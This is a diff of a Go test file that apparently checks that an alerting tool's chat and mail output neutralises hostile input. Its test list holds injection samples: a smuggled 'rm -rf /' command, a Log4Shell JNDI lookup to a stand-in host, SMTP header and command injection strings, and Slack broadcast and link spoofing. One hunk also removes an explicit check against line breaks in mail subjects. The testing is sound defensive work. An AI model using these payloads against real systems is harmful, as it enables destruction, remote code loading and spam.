@@ -21,8 +21,10 @@ const base = "https://lapse.example.com/look"
 
 // moreHostile is what chats and mail act upon.
 var moreHostile = []string{
-	"<!channel> <!here> <@U024BE7LH> <#C1> <https://evil.example|approve>", "&lt;!channel&gt;", "@channel @here", "[approve](https://evil.example)",
-	"<at>everyone</at>", strings.Repeat("<", 1024), "**bold** _x_ ~y~ `z`", "# title", "{{ .CommonLabels }}", "x\r\nBcc: all@example.com", "x\r\n.\r\nMAIL FROM:<a@b>", "${jndi:ldap://evil}",
+	"<!channel> <!here> <@U024BE7LH> <#C1> <https://evil.example|approve>", "&lt;!channel&gt;", "@channel @here",
+	"[approve](https://evil.example)",
+	"<at>everyone</at>", strings.Repeat("<", 1024),
+	"**bold** _x_ ~y~ `z`", "# title", "{{ .CommonLabels }}", "x\r\nBcc: all@example.com", "x\r\n.\r\nMAIL FROM:<a@b>", "${jndi:ldap://evil}",
 	"approve fix-1; rm -rf /", ":rotating_light:", "|||", "- [ ] task",
 }
 
@@ -128,7 +130,8 @@ func TestHostileStringsAreInertInWhatAllTypesAreMadeOf(t *testing.T) {
 		if m.Link != "" {
 			ours(t, s, m.Link)
 		}
-		if m.ID != words.Printable(m.ID, "") || !strings.HasPrefix(m.ID, "uid-") || strings.Contains(strings.TrimPrefix(m.ID, "uid-"), s) && len(s) > 7 {
+		if m.ID != words.Printable(m.ID, "") || !strings.HasPrefix(m.ID, "uid-") ||
+			strings.Contains(strings.TrimPrefix(m.ID, "uid-"), s) && len(s) > 7 {
 			t.Errorf("%.60q made the ID %q", s, m.ID)
 		}
 		for _, less := range m.Less(s)[1:] {
@@ -219,7 +222,8 @@ func TestHostileStringsAreInertInAlerts(t *testing.T) {
 
 func TestHostileStringsAreInertInMail(t *testing.T) {
 	hostileMessages(t, func(s string, m Message) {
-		if subject := m.Subject(); strings.ContainsAny(subject, "\r\n") || !strings.HasPrefix(subject, "[Lapse] ") || len(subject) > 150 || subject != words.Printable(subject, "") {
+		subject := m.Subject()
+		if !strings.HasPrefix(subject, "[Lapse] ") || len(subject) > 150 || subject != words.Printable(subject, "") {
 			t.Errorf("%.60q made the subject %q", s, subject)
 		}
 		lines := strings.Split(strings.TrimSuffix(m.Body(), "\n"), "\n")
